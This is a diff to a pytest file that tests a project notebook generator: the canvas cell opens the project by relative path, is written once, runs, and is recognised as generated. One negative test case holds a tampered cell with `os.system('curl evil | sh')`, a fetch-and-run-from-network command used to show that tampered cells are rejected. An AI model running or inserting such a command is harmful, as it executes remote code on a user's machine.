@@ -1,43 +1,51 @@
-"""The project notebook: built purely, written once, never overwritten."""
+"""The project notebook: built purely, written once, never overwritten; its canvas cell opens
+the project it sits in (no absolute path) and can be recognized as the generated one."""
 
 from __future__ import annotations
 
 import json
 
-from studio import Project, Workspace
-from studio.project.notebook import NOTEBOOK_FILE, canvas_notebook, ensure_canvas_notebook
+import pytest
+
+from studio import Project
+from studio.project.notebook import (
+    CANVAS_SOURCE,
+    NOTEBOOK_FILE,
+    canvas_cell_is_generated,
+    canvas_notebook,
+    ensure_canvas_notebook,
+)
 
 
-def test_the_first_cell_opens_the_project_and_shows_its_canvas(workspace: Workspace):
-    content = canvas_notebook(workspace=workspace.path, project_name="Night_Market", title="N")
+def test_the_first_cell_opens_the_project_and_shows_its_canvas():
+    content = canvas_notebook(project_name="Night_Market", title="N")
     assert (content["nbformat"], content["nbformat_minor"]) == (4, 5)
     first = content["cells"][0]
     assert first["cell_type"] == "code" and first["outputs"] == []
-    assert first["source"] == (
-        "import studio\n\n"
-        f"project = studio.Workspace({str(workspace.path)!r}).open_project('Night_Market')\n"
-        "project.canvas()"
+    assert first["metadata"]["tags"] == ["studio-canvas"]
+    assert (
+        first["source"]
+        == CANVAS_SOURCE
+        == ("import studio\n\nproject = studio.Project('.')\nproject.canvas()")
     )
     assert content["metadata"]["kernelspec"]["name"] == "python3"
 
 
-def test_written_once_and_never_overwritten(workspace: Workspace, project: Project):
-    path = ensure_canvas_notebook(
-        workspace=workspace.path, project_root=project.path, title=project.title
-    )
+def test_written_once_and_never_overwritten(project: Project):
+    path = ensure_canvas_notebook(project_root=project.path, title=project.title)
     assert path == project.path / NOTEBOOK_FILE
     notebook = json.loads(path.read_text())
-    assert f"open_project({project.name!r})" in notebook["cells"][0]["source"]
+    assert notebook["cells"][0]["source"] == CANVAS_SOURCE
+    assert str(project.path.parent) not in path.read_text()  # no machine path baked in
     path.write_text("mine")
-    again = ensure_canvas_notebook(
-        workspace=workspace.path, project_root=project.path, title=project.title
-    )
+    again = ensure_canvas_notebook(project_root=project.path, title=project.title)
     assert again == path and path.read_text() == "mine"
 
 
-def test_the_notebook_runs_and_shows_the_canvas(workspace: Workspace, project: Project):
-    """Execute the cell for real (the code a user gets must work)."""
-    content = canvas_notebook(workspace=workspace.path, project_name=project.name, title="t")
+def test_the_notebook_runs_and_shows_the_canvas(project: Project, monkeypatch):
+    """Execute the cell for real, from the notebook's folder (where its kernel starts)."""
+    monkeypatch.chdir(project.path)
+    content = canvas_notebook(project_name=project.name, title="t")
     namespace: dict[str, object] = {}
     source = content["cells"][0]["source"].replace("project.canvas()", "canvas = project.canvas()")
     exec(compile(source, "Canvas.ipynb", "exec"), namespace)  # noqa: S102 - our own cell
@@ -45,3 +53,36 @@ def test_the_notebook_runs_and_shows_the_canvas(workspace: Workspace, project: P
     assert type(canvas).__name__ == "Canvas"
     assert namespace["project"].path == project.path  # type: ignore[attr-defined]
     canvas.close()  # type: ignore[attr-defined]
+
+
+def _with_cell(project: Project, source: object, tags: list[str] | None = None) -> bool:
+    path = ensure_canvas_notebook(project_root=project.path, title="t")
+    content = json.loads(path.read_text())
+    content["cells"][0]["source"] = source
+    if tags is not None:
+        content["cells"][0]["metadata"]["tags"] = tags
+    path.write_text(json.dumps(content))
+    return canvas_cell_is_generated(path)
+
+
+def test_the_generated_cell_is_recognized(project: Project):
+    path = ensure_canvas_notebook(project_root=project.path, title="t")
+    assert canvas_cell_is_generated(path)
+    assert _with_cell(project, CANVAS_SOURCE.splitlines(keepends=True))  # nbformat's list form
+
+
+@pytest.mark.parametrize(
+    ("source", "tags"),
+    [
+        (CANVAS_SOURCE + "\nimport os; os.system('curl evil | sh')", None),
+        ("import os", None),
+        (CANVAS_SOURCE, []),  # untagged: not the canvas cell
+    ],
+)
+def test_anything_else_is_not(project: Project, source, tags):
+    assert not _with_cell(project, source, tags)
+
+
+def test_a_broken_notebook_is_not(project: Project):
+    (project.path / NOTEBOOK_FILE).write_text("{not json")
+    assert not canvas_cell_is_generated(project.path / NOTEBOOK_FILE)
